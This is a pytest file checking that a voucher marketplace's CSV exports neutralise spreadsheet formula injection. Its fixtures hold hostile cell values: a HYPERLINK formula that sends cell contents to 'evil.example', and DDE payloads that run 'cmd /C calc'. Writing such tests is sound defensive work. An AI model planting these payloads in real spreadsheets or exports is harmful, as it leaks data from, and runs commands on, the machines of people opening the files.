"""Every CSV the app produces is safe to open in a spreadsheet: names that users typed
(programmes, organisations) never run as formulas, and amounts stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pytest

from marketplace.oversight import stats
from marketplace.vouchers import settlement
from tests.functional.catalog_helpers import services
from tests.functional.voucher_helpers import pilot
from tests.functional.vouchers.test_vouchers import accepted_order

PROGRAMME = '=HYPERLINK("http://evil.example/?"&A1,"详情")'
ENTERPRISE = "@SUM(1+1)*cmd|' /C calc'!A0"
PROVIDER = "+1+cmd|' /C calc'!A0"
AGENCY = "-2+3+cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


@pytest.fixture
def hostile(app, dbs, monkeypatch):
    """A pilot whose programme and organisations carry formula names, with a voucher spent,
    settled to the provider, and the audit trail of it all."""
    monkeypatch.setitem(app.config, "RISK_FAST_DELIVERY_BP", 0)
    p = pilot(app, dbs, tag="csv")
    p.enterprise.name, p.provider.name, p.agency.name = ENTERPRISE, PROVIDER, AGENCY
    dbs.commit()
    programme = p.programme(name=PROGRAMME)
    p.issue_to(programme)
    accepted_order(app, dbs, p)
    with services(app, dbs):
        s = settlement.draw_up(programme, p.provider.id, p.official_actor)
        settlement.approve(s, s.total_fen, "已核对", p.official2_actor)  # the provider sees it
    return p, programme, s


def cells(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).removeprefix("\ufeff"))))


def assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] == "-":
                assert NUMBER.fullmatch(cell), cell  # a negative number is a number
            else:
                assert cell[:1] not in ("=", "+", "@", "\t", "\r"), cell


def test_every_csv_route_is_checked_here(app):
    routes = {r.endpoint for r in app.url_map.iter_rules() if r.rule.endswith(".csv")}
    assert routes == {
        "oversight.burn_csv",
        "oversight.dashboard_csv",
        "oversight.audit_csv",
        "oversight.radar_csv",
        "vouchers.settlement_csv",
        "vouchers.staged_import_csv",
    }


def test_demand_radar(client, dbs, hostile):
    """Division names are reference data an administrator may edit: one that reads as a
    formula is written as text; the averages and counts stay numbers."""
    from marketplace.accounts.models import Region
    from tests.factories import diagnosis

    p, _programme, _s = hostile
    dbs.get(Region, p.enterprise.region_code).name_zh = ENTERPRISE
    d = diagnosis(p.enterprise.id)
    d.dimension_scores = {"equipment": 20, "data": 40, "production": 60, "quality": 80,
                          "supply_chain": 50}  # fmt: skip
    d.pain_points = ["downtime"]
    dbs.commit()
    client.login(p.official.email)
    rows = cells(client.get("/agency/demand.csv"))
    assert_safe(rows)
    assert rows[1][1] == "'" + ENTERPRISE
    assert rows[1][2] == "1" and rows[1][5] == "20.0"


def test_money_by_month(client, hostile):
    p, programme, _s = hostile
    client.login(p.official.email)
    rows = cells(client.get(f"/agency/programmes/{programme.id}/burn.csv"))
    assert_safe(rows)
    assert rows[1][0] == "'" + PROGRAMME
    assert rows[1][2] == "20000.00"  # issued: a number, not quoted


@pytest.mark.parametrize("section", sorted(stats.SECTIONS))
def test_statistics(client, hostile, section):
    p, programme, _s = hostile
    client.login(p.official.email)
    for query in ("", f"?programme={programme.id}"):
        rows = cells(client.get(f"/agency/dashboard/{section}.csv{query}"))
        assert_safe(rows)
        if section == "money":
            assert rows[1][:2] == ["'" + PROGRAMME, "1000000.00"]


def test_the_audit_trail(client, hostile):
    p, _programme, _s = hostile
    client.login(p.official.email)
    rows = cells(client.get("/agency/audit.csv"))
    assert_safe(rows)
    organisations = {row[2] for row in rows[1:]}
    assert {"'" + ENTERPRISE, "'" + AGENCY} <= organisations


@pytest.mark.parametrize("who", ["official", "provider_owner"])
def test_a_settlement(client, hostile, who):
    p, _programme, s = hostile
    client.login(getattr(p, who).email)
    rows = cells(client.get(f"/settlements/{s.id}.csv"))
    assert_safe(rows)
    assert rows[1][1:3] == ["'" + PROGRAMME, "'" + PROVIDER] and rows[1][5] == "'" + ENTERPRISE


def test_the_import_dry_runs_report(client, hostile):
    """A list's report: the names an official's list carries, and the enterprises'."""
    p, programme, _s = hostile
    client.login(p.official.email)
    body = (
        "统一社会信用代码,企业名称\n"
        f"{p.enterprise.credit_code},x\n"  # holds a voucher already: its (formula) name shown
        '91130100MA0000000X,=HYPERLINK("http://x")\n'
    )
    staged = client.form(
        f"/agency/programmes/{programme.id}/import",
        {"file": (io.BytesIO(body.encode()), "名单.csv")},
        content_type="multipart/form-data",
    )
    rows = cells(client.get(staged.headers["Location"] + ".csv"))
    assert_safe(rows)
    assert rows[1][2] == "'" + ENTERPRISE and rows[2][2] == '\'=HYPERLINK("http://x")'
